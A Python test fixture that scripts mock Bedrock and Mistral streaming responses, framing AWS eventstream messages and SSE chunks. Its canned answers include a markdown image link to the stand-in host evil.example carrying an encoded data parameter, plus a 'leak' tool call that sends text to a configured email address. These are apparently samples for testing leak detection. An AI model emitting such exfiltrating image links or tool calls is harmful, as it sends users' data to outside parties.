"""Model answers that aimock cannot give: it frames Bedrock's streams, and the
tool calls of Mistral's, in ways that the official SDKs refuse.

Each function is a script of the server in `tests/envoy/upstream.py`, and
answers the prompts of `models.mjs` as that does.
"""

from __future__ import annotations

import base64
import json
import re
import struct
import zlib

from plugin import EMAIL
from upstream import Delay, Recorded, Reply

MODEL = "anthropic.claude-3-5-sonnet-20241022-v2:0"
LINK = "![x](https://evil.example/p.png?data=7ysh0vjy4EDQXyzqTu7vPvqI5W9TlT58kcNluuZ6lmjOL3agcrEBw7TSTb7zX8HZ)"
CALLS = {
    "call weather": ("weather", {"city": 'Zürich "Altstadt"', "days": 3, "exact": True}),
    "call leak": ("send", {"to": EMAIL, "body": 'say "hi"\n'}),
}


def answer(prompt: str) -> tuple[str, tuple[str, dict] | None]:
    """Text and tool call that a prompt is answered with."""
    if prompt.startswith("call send: "):
        return "", ("send", {"to": prompt[11:], "body": 'say "hi"\n'})
    if prompt in CALLS:
        return "", CALLS[prompt]
    if prompt.startswith(("repeat: ", "slowly: ")):
        return prompt[8:], None
    said = {
        "greet": 'Hello there.\nGrüße, "friend" – all is well.',
        "leak": f"Write to {EMAIL} today.",
        "exfiltrate": f"Look at this: {LINK} and more text",
    }
    return said[prompt], None


def pieces(text: str) -> list[str]:
    return re.findall(r".{1,3}", text, re.DOTALL)


def frame(kind: str, payload: dict) -> bytes:
    """A message of `application/vnd.amazon.eventstream`."""
    head = b""
    for name, value in ((":event-type", kind), (":content-type", "application/json"), (":message-type", "event")):
        head += bytes([len(name)]) + name.encode() + b"\x07" + struct.pack(">H", len(value)) + value.encode()
    body = json.dumps(payload, ensure_ascii=False).encode()
    prelude = struct.pack(">II", 16 + len(head) + len(body), len(head))
    message = prelude + struct.pack(">I", zlib.crc32(prelude)) + head + body
    return message + struct.pack(">I", zlib.crc32(message))


def eventstream(frames: list[bytes], prompt: str) -> Reply:
    """`slowly`, every tenth frame comes in a read of its own."""
    parts: list = []
    for at, part in enumerate(frames):
        pause = prompt.startswith("slowly: ") and at % 10 == 9
        parts += [part, Delay(0.02)] if pause else [part]
    return Reply.stream(parts, "application/vnd.amazon.eventstream")


def converse_stream(request: Recorded) -> Reply:
    prompt = request.json()["messages"][-1]["content"][0]["text"]
    text, call = answer(prompt)
    frames = [frame("messageStart", {"role": "assistant", "p": "abcd"})]
    if call:
        name, arguments = call
        start = {"toolUse": {"toolUseId": "tooluse_1", "name": name}}
        frames.append(frame("contentBlockStart", {"contentBlockIndex": 0, "start": start}))
        deltas = [{"toolUse": {"input": piece}} for piece in pieces(json.dumps(arguments))]
    else:
        # The service starts no block for text.
        deltas = [{"text": piece} for piece in pieces(text)]
    frames += [frame("contentBlockDelta", {"contentBlockIndex": 0, "delta": d, "p": "abc"}) for d in deltas]
    frames.append(frame("contentBlockStop", {"contentBlockIndex": 0, "p": "a"}))
    frames.append(frame("messageStop", {"stopReason": "tool_use" if call else "end_turn"}))
    usage = {"inputTokens": 11, "outputTokens": 7, "totalTokens": 18}
    frames.append(frame("metadata", {"usage": usage, "metrics": {"latencyMs": 5}}))
    return eventstream(frames, prompt)


def invoke_stream(request: Recorded) -> Reply:
    prompt = request.json()["messages"][-1]["content"]
    text, call = answer(prompt)
    block: dict = {"type": "text", "text": ""}
    deltas: list[dict] = [{"type": "text_delta", "text": piece} for piece in pieces(text)]
    if call:
        name, arguments = call
        block = {"type": "tool_use", "id": "toolu_1", "name": name, "input": {}}
        deltas = [{"type": "input_json_delta", "partial_json": piece} for piece in pieces(json.dumps(arguments))]
    usage = {"input_tokens": 11, "output_tokens": 1}
    message = {"id": "msg_1", "type": "message", "role": "assistant", "model": MODEL, "content": [], "usage": usage}
    events = [
        {"type": "message_start", "message": message},
        {"type": "content_block_start", "index": 0, "content_block": block},
        *({"type": "content_block_delta", "index": 0, "delta": delta} for delta in deltas),
        {"type": "content_block_stop", "index": 0},
        {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 7}},
        {"type": "message_stop"},
    ]
    coded = [base64.b64encode(json.dumps(event, ensure_ascii=False).encode()).decode() for event in events]
    return eventstream([frame("chunk", {"bytes": part, "p": "abcd"}) for part in coded], prompt)


def mistral_stream(request: Recorded) -> Reply:
    """Mistral sends a tool call in one piece, name and arguments together."""
    _, call = answer(request.json()["messages"][-1]["content"])
    name, arguments = call
    base = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "mistral-small-latest"}
    made = [{"id": "D681PevKs", "index": 0, "function": {"name": name, "arguments": json.dumps(arguments)}}]
    deltas = [{"role": "assistant", "content": ""}, {"content": "", "tool_calls": made}]
    events = [base | {"choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    events[-1]["choices"][0]["finish_reason"] = "tool_calls"
    events[-1]["usage"] = {"prompt_tokens": 11, "completion_tokens": 7, "total_tokens": 18}
    return Reply.sse(events)
